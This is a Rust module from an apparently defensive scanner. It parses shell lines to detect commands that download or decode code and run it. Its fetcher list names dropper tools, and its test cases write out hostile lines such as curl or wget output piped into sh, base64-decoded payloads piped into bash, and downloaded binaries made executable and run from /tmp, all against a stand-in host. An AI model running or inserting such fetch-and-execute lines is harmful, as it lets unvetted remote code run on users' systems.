//! Shell lines taken apart far enough to see which program reads from which.
//!
//! Follows the token rules of POSIX.1-2017, Shell Command Language 2.2 to 2.4 and 2.9: quotes,
//! escapes, comments, operators, command and process substitution. Left out: expansion of
//! variables, here-document borders (their text is read as commands, which finds more), `case`
//! patterns (a lone `)` only ends a command).

use super::text::{is_interpreter, is_shell};

/// Commands of one text that are looked at.
const COMMANDS: usize = 4096;
/// Words of one command.
const WORDS: usize = 256;
/// Substitutions within substitutions.
const DEPTH: usize = 12;

/// How a command stands inside another.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Substitution {
    /// `$(…)` or backquotes.
    Command,
    /// `<(…)`.
    Process,
}

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Command {
    /// Its words without quotes; redirections are words of their own (`>`, `>&`).
    pub words: Vec<String>,
    /// The command whose output it reads.
    pub pipe_from: Option<usize>,
    /// The command in whose words it is substituted.
    pub within: Option<(usize, Substitution)>,
}

/// Takes a text apart. Bounded; what is past the bounds is left out.
pub(crate) fn parse(text: &str) -> Vec<Command> {
    let mut parser = Parser {
        out: vec![Command::default()],
        frames: vec![Frame::default()],
        word: String::new(),
        in_word: false,
    };
    parser.run(text);
    parser.out
}

/// What is being read: the text itself or a substitution in it.
#[derive(Default)]
struct Frame {
    command: usize,
    close: Option<char>,
    parens: usize,
    in_double: bool,
    /// The outer word that goes on when this frame closes.
    outer_word: String,
}

struct Parser {
    out: Vec<Command>,
    frames: Vec<Frame>,
    word: String,
    in_word: bool,
}

impl Parser {
    fn run(&mut self, text: &str) {
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            if self.out.len() > COMMANDS {
                return;
            }
            let Some(frame) = self.frames.last_mut() else {
                return;
            };
            if frame.in_double {
                match c {
                    '"' => frame.in_double = false,
                    '\\' => {
                        if let Some(next) = chars.next()
                            && next != '\n'
                        {
                            self.push(next);
                        }
                    }
                    '$' if chars.peek() == Some(&'(') => {
                        chars.next();
                        self.open(')', Substitution::Command);
                    }
                    '`' if frame.close == Some('`') => self.close(),
                    '`' => self.open('`', Substitution::Command),
                    c => self.push(c),
                }
                continue;
            }
            match c {
                '"' => {
                    frame.in_double = true;
                    self.in_word = true;
                }
                '\'' => {
                    self.in_word = true;
                    for c in chars.by_ref() {
                        if c == '\'' {
                            break;
                        }
                        self.push(c);
                    }
                }
                '\\' => match chars.next() {
                    Some('\n') | None => {}
                    Some(next) => self.push(next),
                },
                '$' if chars.peek() == Some(&'(') => {
                    chars.next();
                    self.open(')', Substitution::Command);
                }
                '`' if frame.close == Some('`') => self.close(),
                '`' => self.open('`', Substitution::Command),
                '#' if !self.in_word => {
                    while chars.peek().is_some_and(|c| *c != '\n') {
                        chars.next();
                    }
                }
                '<' if chars.peek() == Some(&'(') => {
                    chars.next();
                    self.open(')', Substitution::Process);
                }
                '<' | '>' => self.redirect(c, &mut chars),
                '&' if chars.peek() == Some(&'>') => self.redirect(c, &mut chars),
                '|' => {
                    let from = frame.command;
                    match chars.peek() {
                        Some('|') => {
                            chars.next();
                            self.separate(None);
                        }
                        Some('&') => {
                            chars.next();
                            self.separate(Some(from));
                        }
                        _ => self.separate(Some(from)),
                    }
                }
                ';' | '&' | '\n' => self.separate(None),
                '(' => {
                    frame.parens += 1;
                    self.separate(None);
                }
                ')' if frame.close == Some(')') && frame.parens == 0 => self.close(),
                ')' => {
                    frame.parens = frame.parens.saturating_sub(1);
                    self.separate(None);
                }
                c if c.is_whitespace() => self.end_word(),
                c => self.push(c),
            }
        }
        self.end_word();
    }

    fn push(&mut self, c: char) {
        self.in_word = true;
        // The longest word of interest is an encoded program on one line.
        if self.word.len() < 1 << 16 {
            self.word.push(c);
        }
    }

    fn end_word(&mut self) {
        if self.in_word {
            let word = std::mem::take(&mut self.word);
            self.in_word = false;
            self.add(word);
        }
    }

    fn add(&mut self, word: String) {
        if let Some(frame) = self.frames.last()
            && let Some(command) = self.out.get_mut(frame.command)
            && command.words.len() < WORDS
        {
            command.words.push(word);
        }
    }

    fn redirect(&mut self, first: char, chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
        self.end_word();
        let mut operator = String::from(first);
        while let Some(c) = chars
            .peek()
            .copied()
            .filter(|c| matches!(c, '<' | '>' | '&' | '|'))
        {
            if operator.len() == 3 {
                break;
            }
            operator.push(c);
            chars.next();
        }
        self.add(operator);
    }

    fn separate(&mut self, pipe_from: Option<usize>) {
        self.end_word();
        let current = self
            .frames
            .last()
            .and_then(|frame| self.out.get(frame.command));
        // Blank lines and comments are no commands, and a line may end after `|`.
        if pipe_from.is_none() && current.is_some_and(|command| command.words.is_empty()) {
            return;
        }
        let within = current.and_then(|command| command.within);
        self.out.push(Command {
            pipe_from,
            within,
            words: Vec::new(),
        });
        let command = self.out.len() - 1;
        if let Some(frame) = self.frames.last_mut() {
            frame.command = command;
        }
    }

    fn open(&mut self, close: char, how: Substitution) {
        if self.frames.len() >= DEPTH {
            self.push(close);
            return;
        }
        let outer = self.frames.last().map(|frame| frame.command);
        let outer_word = std::mem::take(&mut self.word);
        self.in_word = false;
        self.out.push(Command {
            within: outer.map(|outer| (outer, how)),
            ..Command::default()
        });
        self.frames.push(Frame {
            command: self.out.len() - 1,
            close: Some(close),
            outer_word,
            ..Frame::default()
        });
    }

    fn close(&mut self) {
        self.end_word();
        if self.frames.len() > 1
            && let Some(frame) = self.frames.pop()
        {
            self.word = frame.outer_word;
            self.in_word = true;
        }
    }
}

/// Words that stand before a program without being it.
const BEFORE: &[&str] = &[
    "then",
    "do",
    "else",
    "elif",
    "if",
    "while",
    "until",
    "!",
    "{",
    "time",
    "exec",
    "command",
    "builtin",
    "nohup",
    "sudo",
    "doas",
    "env",
    "setsid",
    "ionice",
    "nice",
    "timeout",
    "stdbuf",
    "busybox",
    "unbuffer",
    "runuser",
    "gosu",
    "su-exec",
    "tini",
    "dumb-init",
    "catchsegv",
];

impl Command {
    /// The program, without its folder, and its arguments.
    pub(crate) fn program(&self) -> Option<(&str, &[String])> {
        let at = self.program_at()?;
        let (word, arguments) = self.words.get(at..)?.split_first()?;
        Some((base_name(word), arguments))
    }

    /// The program as it is written.
    pub(crate) fn program_word(&self) -> Option<&str> {
        self.words.get(self.program_at()?).map(String::as_str)
    }

    fn program_at(&self) -> Option<usize> {
        let mut after_wrapper = false;
        let mut at = 0;
        while let Some(word) = self.words.get(at) {
            let name = base_name(word);
            if word.is_empty() || is_assignment(word) {
                at += 1;
            } else if BEFORE.contains(&name) {
                after_wrapper = true;
                at += 1;
            } else if after_wrapper
                && (word.starts_with('-') || word.bytes().all(|b| b.is_ascii_digit() || b == b's'))
            {
                // `sudo -u nobody`, `nice -n 19`, `timeout 10s`.
                at += match word.as_str() {
                    "-u" | "-n" | "-g" | "-c" if name_takes_value(self.words.get(at - 1)) => 2,
                    _ => 1,
                };
            } else {
                return Some(at);
            }
        }
        None
    }
}

fn name_takes_value(wrapper: Option<&String>) -> bool {
    wrapper.is_some_and(|word| {
        matches!(
            base_name(word),
            "sudo" | "nice" | "ionice" | "doas" | "timeout"
        )
    })
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

/// The last component of a path.
pub(super) fn base_name(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// What a text does with code that is not in it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Foreign {
    /// Runs what it downloads.
    Download,
    /// Runs what it decodes.
    Decode,
}

/// Whether a text downloads or decodes something and runs it; the program that does it is told.
pub(super) fn runs_foreign_code(commands: &[Command]) -> Option<(Foreign, String)> {
    let mut saved: Vec<String> = Vec::new();
    for (index, command) in commands.iter().enumerate() {
        let Some((name, arguments)) = command.program() else {
            continue;
        };
        if is_fetcher(name) {
            saved.extend(saved_as(name, arguments));
            saved.truncate(64);
        }
        if is_interpreter(name)
            && reads_code_from_input(arguments)
            && let Some((foreign, source)) = source_of(commands, command)
        {
            return Some((foreign, format!("`{source}` into `{name}`")));
        }
        if let Some((foreign, source)) = substituted_code(commands, index, name, arguments) {
            return Some((foreign, format!("`{source}` into `{name}`")));
        }
        if is_shell(name)
            && let Some(line) = inline_code(arguments)
            && line.len() < 1 << 14
            // Each level is shorter than the one around it.
            && let Some(found) = runs_foreign_code(&parse(line))
        {
            return Some(found);
        }
        let run = command
            .program_word()
            .filter(|word| word.contains('/') && !is_interpreter(name))
            .or_else(|| {
                arguments
                    .iter()
                    .find(|word| !word.starts_with('-'))
                    .filter(|_| is_interpreter(name) || name == "." || name == "source")
                    .map(String::as_str)
            });
        if let Some(run) = run
            && saved.iter().any(|file| same_file(file, run))
        {
            return Some((Foreign::Download, "a file that it downloads".to_owned()));
        }
    }
    None
}

/// The argument of `-c`, also in `-ec`.
pub(super) fn inline_code(arguments: &[String]) -> Option<&str> {
    let at = arguments
        .iter()
        .position(|word| word.starts_with('-') && !word.starts_with("--") && word.ends_with('c'))?;
    arguments.get(at + 1).map(String::as_str)
}

fn same_file(saved: &str, run: &str) -> bool {
    saved == run
        || saved.strip_prefix("./") == Some(run)
        || (!saved.contains('/') && run.strip_prefix("./") == Some(saved))
}

fn is_fetcher(name: &str) -> bool {
    matches!(
        name,
        "curl"
            | "wget"
            | "wget2"
            | "aria2c"
            | "axel"
            | "lwp-download"
            | "lwp-request"
            | "GET"
            | "fetch"
            | "tftp"
            | "lynx"
            | "cdt"
            | "wgettnt"
            | "curltnt"
            | "wd1"
            | "cd1"
    )
}

/// Where a download is put.
fn saved_as(name: &str, arguments: &[String]) -> Vec<String> {
    let mut files = Vec::new();
    let mut by_url = name == "wget" || name == "axel" || name == "aria2c";
    let mut words = arguments.iter().peekable();
    while let Some(word) = words.next() {
        match word.as_str() {
            "-O" if name == "curl" => by_url = true,
            "--remote-name" => by_url = true,
            "-o" if name == "wget" => {
                words.next();
            }
            "-o" | "-O" | "--output" | "--output-document" | ">" => {
                by_url = false;
                files.extend(words.next().filter(|file| file.as_str() != "-").cloned());
            }
            word => {
                for prefix in ["--output=", "--output-document=", "-qO", "-O"] {
                    if let Some(file) = word.strip_prefix(prefix)
                        && !file.is_empty()
                        && file != "-"
                    {
                        by_url = false;
                        files.push(file.to_owned());
                    }
                }
                // `-qO FILE`, `-fsSLo FILE`.
                if word.starts_with('-')
                    && !word.starts_with("--")
                    && word.len() > 2
                    && ((name == "wget" && word.ends_with('O'))
                        || (name == "curl" && word.ends_with('o')))
                {
                    by_url = false;
                    files.extend(
                        words
                            .peek()
                            .filter(|file| file.as_str() != "-")
                            .map(|file| (*file).clone()),
                    );
                }
            }
        }
    }
    if by_url {
        files.extend(
            arguments
                .iter()
                .filter(|word| word.contains("://"))
                .filter_map(|url| {
                    let path = url.split(['?', '#']).next()?;
                    let file = base_name(path);
                    (!file.is_empty() && path.matches('/').count() > 2).then(|| file.to_owned())
                }),
        );
    }
    files
}

/// `| sh`, `| bash -s -- x`, `| python3 -`: not `| python3 -c …` or `| sh script`.
fn reads_code_from_input(arguments: &[String]) -> bool {
    let mut words = arguments.iter().map(String::as_str);
    while let Some(word) = words.next() {
        match word {
            "-" | "-s" | "--" => return true,
            word if word.starts_with(['>', '<', '&']) => {
                if word.starts_with('<') {
                    return false;
                }
                words.next();
            }
            word if word.bytes().all(|b| b.is_ascii_digit()) => {}
            word if word.starts_with('-') && !word.starts_with("--") => {
                if word.contains(['c', 'm', 'n', 'p']) && !word.starts_with("-s") {
                    return false;
                }
                if word.contains('s') {
                    return true;
                }
            }
            _ => return false,
        }
    }
    true
}

/// What a command's input comes from, if that is a download or a decoder.
fn source_of(commands: &[Command], command: &Command) -> Option<(Foreign, String)> {
    let mut from = command.pipe_from;
    let mut decoded = None;
    for _ in 0..8 {
        let source = from.and_then(|from| commands.get(from));
        let Some(source) = source else {
            return decoded;
        };
        if let Some(found) = foreign(source) {
            if found.0 == Foreign::Download {
                return Some(found);
            }
            decoded = Some(found);
        }
        from = source.pipe_from;
    }
    decoded
}

fn foreign(command: &Command) -> Option<(Foreign, String)> {
    let (name, arguments) = command.program()?;
    let has = |words: &[&str]| arguments.iter().any(|word| words.contains(&word.as_str()));
    let kind = match name {
        name if is_fetcher(name) => Foreign::Download,
        "base64" | "base32" if has(&["-d", "-D", "--decode", "-di", "-id"]) => Foreign::Decode,
        "openssl" if has(&["-d"]) => Foreign::Decode,
        "xxd"
            if arguments
                .iter()
                .any(|word| word.starts_with("-r") || word == "-p") =>
        {
            Foreign::Decode
        }
        "rev" => Foreign::Decode,
        _ => return None,
    };
    Some((kind, name.to_owned()))
}

/// `bash -c "$(curl …)"`, `eval "$(…)"`, `source <(curl …)`.
fn substituted_code(
    commands: &[Command],
    index: usize,
    name: &str,
    arguments: &[String],
) -> Option<(Foreign, String)> {
    let takes_command =
        name == "eval" || (is_interpreter(name) && inline_code(arguments).is_some());
    let takes_process = is_interpreter(name) || matches!(name, "source" | ".");
    if !takes_command && !takes_process {
        return None;
    }
    commands
        .iter()
        .skip(index)
        .take(64)
        .filter(|inner| match inner.within {
            Some((outer, Substitution::Command)) => outer == index && takes_command,
            Some((outer, Substitution::Process)) => outer == index && takes_process,
            None => false,
        })
        .find_map(foreign)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(line: &str, expected: Option<Foreign>) {
        let found = runs_foreign_code(&parse(line)).map(|(kind, _)| kind);
        assert_eq!(found, expected, "{line}");
    }

    #[test]
    fn pipes_substitutions_and_saved_files_run_downloads() {
        for line in [
            "curl -fsSL http://x.example/a.sh | sh",
            "wget -qO- http://x.example/a | sudo bash -s -- -y",
            "curl x.example | tr -d x | nohup bash >/dev/null 2>&1 &",
            "bash -c \"$(curl -fsSL http://x.example)\"",
            "sh -c 'wget -O - http://x.example/i|sh'",
            "bash <(curl -s http://x.example)",
            "eval `wget -qO- x.example`",
            "source <(curl -s x.example)",
            "c\"u\"rl http://x.example/a | b''ash",
            "wget http://x.example/.x -O /tmp/.x; chmod +x /tmp/.x && /tmp/.x",
            "cd /tmp && curl -O http://x.example/bot && chmod 777 bot && ./bot",
            "curl -fsSLo /tmp/a http://x.example/a\nsh /tmp/a",
            "if true; then curl x.example | python3 -; fi",
        ] {
            check(line, Some(Foreign::Download));
        }
    }

    #[test]
    fn what_only_handles_data_runs_nothing() {
        for line in [
            "curl -s http://x.example/j | python3 -c 'import json'",
            "curl -s http://x.example/j | python3 -m json.tool",
            "curl http://x.example/a.tgz | tar xz",
            "wget http://x.example/a.tar.gz -O /tmp/a.tgz && tar xf /tmp/a.tgz",
            "# curl http://x.example | sh",
            "echo 'curl http://x.example | sh'",
            "bash run.sh \"$(curl ifconfig.example)\"",
            "curl -o /tmp/key.asc x.example && gpg --import /tmp/key.asc",
            "base64 -d < in > out",
        ] {
            check(line, None);
        }
    }

    #[test]
    fn decoded_code_is_run_by_pipe_and_eval() {
        check("echo aGk= | base64 -d | bash", Some(Foreign::Decode));
        check(
            "eval \"$(echo aGk= | base64 --decode)\"",
            Some(Foreign::Decode),
        );
        check("echo 6869 | xxd -r -p | sh", Some(Foreign::Decode));
    }

    #[test]
    fn nothing_ends_the_reader() {
        for line in [
            "`",
            "$(",
            "\"",
            "'",
            "\\",
            "|||",
            "$(`$(`",
            ")",
            "<(",
            "&>",
            "a <<<>>>&&&|||",
        ] {
            parse(line);
        }
        let deep = "$(".repeat(10_000);
        parse(&deep);
        let deep = "bash -c \"".repeat(2_000);
        runs_foreign_code(&parse(&deep));
    }
}
